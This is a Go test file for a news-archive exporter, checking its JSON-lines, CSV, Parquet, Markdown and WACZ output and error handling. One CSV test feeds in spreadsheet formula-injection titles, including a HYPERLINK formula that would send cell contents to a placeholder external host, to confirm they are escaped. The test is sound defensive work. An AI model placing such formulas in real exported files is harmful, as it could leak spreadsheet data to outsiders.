package export_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/parquet-go/parquet-go"

	"github.com/tearsheet-news/tearsheet/crawl"
	"github.com/tearsheet-news/tearsheet/crawl/archive"
	"github.com/tearsheet-news/tearsheet/crawl/archive/export"
	"github.com/tearsheet-news/tearsheet/extract"
)

var fetched = time.Date(2026, 3, 14, 9, 26, 53, 589e6, time.UTC)

// whole is a revision of which everything is known, bare one of which nothing is.
func whole() *archive.Revision {
	free := true
	a := &crawl.Article{FetchedAt: fetched, Revision: 2, NoArchive: true, SyndicatedFrom: "https://agency.example/ferry",
		Article: extract.Article{URL: "https://www.news.example/ferry", Type: extract.TypeArticle, TypeScore: 0.75,
			Title: `Ferry "returns", at last`, Byline: "By Ada Fern", Authors: []string{"Ada Fern", "Ben Holt"},
			Published: "2026-03-14T09:30:00+02:00", Modified: "2026-03-15T10:00:00", Category: "Coast",
			Categories: []string{"Home", "Coast"}, Tags: []string{"ferry", "1950s"}, Language: "en", SiteName: "The Quay",
			Description: "It is back.", Image: &extract.Image{URL: "https://news.example/a.jpg"},
			Text: "The ferry returned.\n\nIt was *late*.", WordCount: 6, AccessibleForFree: &free}}
	return &archive.Revision{URL: a.URL, Number: 2, Fetched: fetched, Seen: fetched.Add(time.Hour), Record: a,
		JSON: []byte(`{"title":"Ferry"}`), Extractor: "1.2.3",
		Origin: crawl.Origin{Pages: []crawl.Place{{URL: a.URL, File: "a.warc.gz", Offset: 348, Digest: "sha256:ab12"}}}}
}

func bare() *archive.Revision {
	return &archive.Revision{URL: "http://[::1]:8080/x", Number: 1, Fetched: fetched, Seen: fetched,
		Record: &crawl.Article{Article: extract.Article{Type: extract.TypeArticle, Published: "last week"}}, JSON: []byte(`{}`)}
}

func these(revisions ...*archive.Revision) export.Revisions {
	return func(yield func(*archive.Revision, error) bool) {
		for _, r := range revisions {
			if !yield(r, nil) {
				return
			}
		}
	}
}

func TestLines(t *testing.T) {
	var b bytes.Buffer
	if n, err := export.Lines(&b, these(whole(), bare())); n != 2 || err != nil || b.String() != "{\"title\":\"Ferry\"}\n{}\n" {
		t.Errorf("%d, %v, %q", n, err, &b)
	}
}

// What a spreadsheet would calculate is a text to it, where that is asked for.
func TestCSVFormulas(t *testing.T) {
	for title, want := range map[string]string{
		`=HYPERLINK("https://x.example/"&A1)`: `'=HYPERLINK("https://x.example/"&A1)`,
		"+1 for the ferry":                    "'+1 for the ferry",
		"-x":                                  "'-x",
		"@SUM(A1)":                            "'@SUM(A1)",
		"\t=1":                                "'\t=1",
		"-5":                                  "-5",
		"Ferry = late":                        "Ferry = late",
	} {
		r := bare()
		r.Record.Title = title
		for _, noFormulas := range []bool{true, false} {
			var b bytes.Buffer
			if _, err := export.CSV(&b, these(r), noFormulas); err != nil {
				t.Fatal(err)
			}
			lines, err := csv.NewReader(&b).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if !noFormulas {
				want = title
			}
			if got := lines[1][slices.Index(lines[0], "title")]; got != want {
				t.Errorf("noFormulas %v: %q, want %q", noFormulas, got, want)
			}
		}
	}
}

func TestCSV(t *testing.T) {
	var b bytes.Buffer
	if n, err := export.CSV(&b, these(whole(), bare()), false); n != 2 || err != nil {
		t.Fatal(n, err)
	}
	lines, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	got := ""
	for i, name := range lines[0] {
		got += fmt.Sprintf("%s|%s|%s\n", name, strings.ReplaceAll(lines[1][i], "\n", "/"), lines[2][i])
	}
	want := `url|https://www.news.example/ferry|http://[::1]:8080/x
site|news.example|[::1]:8080
revision|2|1
fetched|2026-03-14T09:26:53.589Z|2026-03-14T09:26:53.589Z
seen|2026-03-14T10:26:53.589Z|2026-03-14T09:26:53.589Z
type|article|article
type_score|0.75|0
title|Ferry "returns", at last|
byline|By Ada Fern|
authors|Ada Fern; Ben Holt|
published|2026-03-14T09:30:00+02:00|last week
published_day|2026-03-14|
published_at|2026-03-14T07:30:00Z|
modified|2026-03-15T10:00:00|
modified_at||
category|Coast|
categories|Home; Coast|
tags|ferry; 1950s|
language|en|
site_name|The Quay|
description|It is back.|
image|https://news.example/a.jpg|
text|The ferry returned.//It was *late*.|
word_count|6|0
accessible_for_free|true|
syndicated_from|https://agency.example/ferry|
truncated||
noarchive|true|false
extractor|1.2.3|
sha256|ab12|
warc|a.warc.gz|
warc_offset|348|
`
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("CSV (-want +got):\n%s", d)
	}
}

// parquetFile writes revisions and returns the file.
func parquetFile(t *testing.T, revisions ...*archive.Revision) (path string) {
	t.Helper()
	path = filepath.Join(t.TempDir(), "it's.parquet")
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if n, err := export.Parquet(f, these(revisions...)); n != len(revisions) || err != nil {
		t.Fatal(n, err)
	}
	return path
}

// TestParquet reads back what was written.
func TestParquet(t *testing.T) {
	rows, err := parquet.ReadFile[export.Row](parquetFile(t, whole(), bare()))
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 2 {
		t.Fatalf("%d rows", len(rows))
	}
	r := rows[0]
	if !r.Fetched.Equal(fetched) || !r.PublishedAt.Equal(fetched.Truncate(time.Hour).Add(-90*time.Minute)) ||
		*r.PublishedDay != int32(fetched.Unix()/86400) || r.ModifiedAt != nil || *r.Offset != 348 || !*r.AccessibleForFree {
		t.Errorf("%+v", r)
	}
	if d := cmp.Diff([]string{"Ada Fern", "Ben Holt"}, r.Authors); d != "" {
		t.Error(d)
	}
	if r = rows[1]; r.PublishedDay != nil || r.Offset != nil || r.AccessibleForFree != nil || len(r.Authors) > 0 {
		t.Errorf("%+v", r)
	}
	if rows, err = parquet.ReadFile[export.Row](parquetFile(t)); len(rows) != 0 || err != nil {
		t.Errorf("of nothing: %d rows, %v", len(rows), err)
	}
}

// TestErrors: an error of the library, or of the disk, is passed on.
func TestErrors(t *testing.T) {
	broken := errors.New("broken")
	failing := func(yield func(*archive.Revision, error) bool) {
		_ = yield(whole(), nil) && yield(nil, broken)
	}
	for name, write := range map[string]func(io.Writer, export.Revisions) (int, error){
		"Lines": export.Lines, "CSV": func(w io.Writer, r export.Revisions) (int, error) { return export.CSV(w, r, false) }, "Parquet": export.Parquet,
		"Markdown": func(_ io.Writer, r export.Revisions) (int, error) { return export.Markdown(t.TempDir(), r, false) },
		"WACZ":     func(w io.Writer, r export.Revisions) (int, error) { return export.WACZ(w, t.TempDir(), r, fetched) },
	} {
		if _, err := write(io.Discard, failing); !errors.Is(err, broken) && name != "WACZ" {
			t.Errorf("%s: error %v", name, err)
		}
		if name == "Markdown" || name == "WACZ" {
			continue
		}
		if _, err := write(full{}, these(whole())); !errors.Is(err, errFull) {
			t.Errorf("%s: error %v", name, err)
		}
	}
	if _, err := export.WACZ(io.Discard, t.TempDir(), these(whole()), fetched); !errors.Is(err, export.ErrNotFinished) {
		t.Errorf("a file that is not there: %v", err)
	}
	if _, err := export.WACZ(io.Discard, t.TempDir(), these(bare()), fetched); !errors.Is(err, export.ErrNothing) {
		t.Errorf("nothing kept: %v", err)
	}
}

// full is a disk without room.
type full struct{}

var errFull = errors.New("no space left")

func (full) Write([]byte) (int, error) { return 0, errFull }
